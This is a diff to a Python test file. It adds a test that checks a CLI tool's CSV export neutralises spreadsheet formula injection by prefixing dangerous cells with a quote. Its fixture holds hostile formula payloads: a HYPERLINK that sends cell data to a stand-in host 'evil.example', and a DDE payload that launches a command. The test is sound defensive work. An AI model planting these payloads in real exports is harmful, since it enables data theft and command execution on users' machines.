@@ -9,6 +9,8 @@ it), "-0044-03-15" stored as year 44, and a broken plug-in as a traceback or a s
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 import textwrap
@@ -272,3 +274,32 @@ def test_hostile_inputs_a_broken_stage_plugin_is_a_coded_config_error(tmp_path: 
         assert reason in first
         assert "Traceback" not in done.stderr
     assert not db.exists()  # refused before anything was read
+
+
+# -- exports opened in a spreadsheet ---------------------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Ferry")',
+    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "url": "+1-1",
+    "language": "-en",
+}
+
+
+def test_hostile_inputs_csv_export_cells_are_never_run_as_spreadsheet_formulas(tmp_path: Path):
+    # a title or an outlet starting with = + - @ was a live formula in Excel or LibreOffice
+    rows = [{"id": "f1", "text": BRIDGE, **FORMULAS}, {"id": "-42", "text": FERRY, "url": "-1.5"}]
+    db = str(tmp_path / "s.db")
+    assert (
+        _installed("ingest", str(_write_rows(tmp_path / "r.jsonl", rows)), "--db", db).returncode
+        == 0
+    )
+    done = _installed("export", "--what", "articles", "--format", "csv", "--db", db)
+    assert done.returncode == 0, done.stderr
+    by_id = {r["id"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
+    for key, value in FORMULAS.items():
+        assert by_id["f1"][key] == "'" + value
+    assert by_id["-42"]["url"] == "-1.5"  # numbers are no formulas: as stored
+    assert by_id["f1"]["text"] == BRIDGE
+    stored = {r["id"]: r for r in _exported(db, "articles")}  # JSONL: every value as stored
+    assert {k: stored["f1"][k] for k in FORMULAS} == FORMULAS
